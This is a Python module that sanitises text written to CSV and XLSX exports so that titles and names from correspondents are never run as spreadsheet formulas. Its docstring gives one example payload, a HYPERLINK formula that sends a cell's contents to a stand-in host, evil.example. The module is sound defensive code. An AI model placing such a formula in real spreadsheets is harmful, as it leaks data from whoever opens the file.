"""The one rule for text in spreadsheet cells: a title or a name is never run as a formula.

Titles and names come from correspondents. Excel, WPS and LibreOffice run a cell that starts
with = + - @ (and, per OWASP, a tab or a carriage return) as a formula, so a title such as
`=HYPERLINK("http://evil.example/?d="&A2,"点此查看")` in an editor's download would fetch a
URL and leak the sheet. Chinese input methods type the full-width ＝＋－＠, and Excel turns a
full-width ＝ typed at the start of a cell into a formula; whether a spreadsheet does so when
it opens a file we could not check, so they count too (the cost: a quote in front of a rare
title in a CSV). Every spreadsheet export (awards/export.py, reports/export.py) writes text
through here.

Only text is touched: numbers, dates and scores stay numbers, a negative score included.
"""

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: str) -> str:
    """OWASP's rule for CSV: a single quote in front makes the cell plain text."""
    return f"'{value}" if looks_like_formula(value) else value


def xlsx_row(values) -> list:
    """A row for worksheet.append(): text without the control characters an XLSX file cannot
    hold, which openpyxl refuses with an error. Zone and theme names are not checked for them
    (a name pasted from a word processor may carry one), and they are invisible anyway."""
    return [
        ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
        for value in values
    ]


def xlsx_cell(cell: Cell) -> None:
    """Keep a text cell text: openpyxl stores a string starting with "=" as a formula (and
    "#N/A" as an error value).

    The value keeps its exact characters (no quote added). A formula-like one also gets
    Excel's own "quote prefix" style, which keeps it text when an editor edits the cell.
    """
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if looks_like_formula(cell.value):
            cell.quotePrefix = True
